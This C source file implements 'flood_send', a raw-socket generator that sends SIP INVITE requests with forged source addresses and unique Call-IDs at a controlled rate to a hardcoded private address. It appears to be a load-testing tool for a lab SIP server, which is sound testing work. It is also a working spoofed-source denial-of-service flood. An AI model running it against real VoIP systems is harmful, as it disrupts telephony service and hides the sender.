// flood_send INTERFACE COUNT RATE: INVITEs with SDP, each of another forged source address and another Call-ID, as frames onto the interface.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define FRAME 1000

static uint8_t frame[BATCH][FRAME];

static int64_t now_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (int64_t)t.tv_sec * 1000000000 + t.tv_nsec;
}

static void put(uint8_t *p, unsigned v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static uint32_t mix(uint32_t x)
{
    x = (x ^ (x >> 16)) * 0x45d9f3bu;
    return (x ^ (x >> 16)) * 0x45d9f3bu;
}

static size_t make(uint8_t *f, uint32_t n)
{
    uint32_t src = 0x0B000000u | (mix(n) & 0xFFFFFF);
    char sdp[200];
    int body = snprintf(sdp, sizeof sdp,
                        "v=0\r\no=- 1 1 IN IP4 11.1.1.1\r\ns=-\r\nc=IN IP4 11.1.1.%u\r\nt=0 0\r\n"
                        "m=audio %u RTP/AVP 0\r\n",
                        n % 250, 10000 + n % 20000 * 2);
    int k =
        snprintf((char *)f + 42, FRAME - 42,
                 "INVITE sip:a@10.77.0.9 SIP/2.0\r\nVia: SIP/2.0/UDP 11.1.1.1;branch=z9hG4bK%u\r\n"
                 "From: <sip:b@11.1.1.1>;tag=%u\r\nTo: <sip:a@10.77.0.9>\r\nCall-ID: flood-%u\r\n"
                 "CSeq: 1 INVITE\r\nContent-Type: application/sdp\r\nContent-Length: %d\r\n\r\n%s",
                 n, n, n, body, sdp);
    memset(f, 2, 12);
    put(f + 12, ETHERTYPE_IP);
    memset(f + 14, 0, 28);
    f[14] = 0x45;
    put(f + 16, (unsigned)(28 + k));
    f[22] = 64;
    f[23] = 17;
    put(f + 26, src >> 16);
    put(f + 28, src & 0xFFFF);
    put(f + 30, 0x0A4D);
    put(f + 32, 9);
    put(f + 34, 5060);
    put(f + 36, 5060);
    put(f + 38, (unsigned)(8 + k));
    return (size_t)(42 + k);
}

int main(int argc, char **argv)
{
    if (argc != 4)
        return 64;
    uint32_t count = (uint32_t)strtoul(argv[2], NULL, 10), n = 0;
    double rate = strtod(argv[3], NULL);
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    struct mmsghdr m[BATCH] = {0};
    struct iovec part[BATCH];
    if (fd < 0 || !to.sll_ifindex || bind(fd, (void *)&to, sizeof to) != 0) {
        perror("flood_send");
        return 69;
    }
    int64_t begin = now_ns();
    while (n < count) {
        for (uint32_t i = 0; i < BATCH; i++) {
            part[i] = (struct iovec){frame[i], make(frame[i], n + i)};
            m[i].msg_hdr = (struct msghdr){.msg_iov = &part[i], .msg_iovlen = 1};
        }
        for (int sent = 0; sent < BATCH;) {
            int r = sendmmsg(fd, m + sent, (unsigned)(BATCH - sent), 0);
            if (r < 0 && errno != ENOBUFS && errno != EAGAIN)
                return 69;
            sent += r > 0 ? r : 0;
        }
        n += BATCH;
        int64_t ahead = begin + (int64_t)((double)n * 1e9 / rate) - now_ns();
        if (ahead > 500000)
            nanosleep(&(struct timespec){0, ahead}, NULL);
    }
    printf("{\"sent\":%u,\"seconds\":%.3f}\n", n, (double)(now_ns() - begin) / 1e9);
    return 0;
}
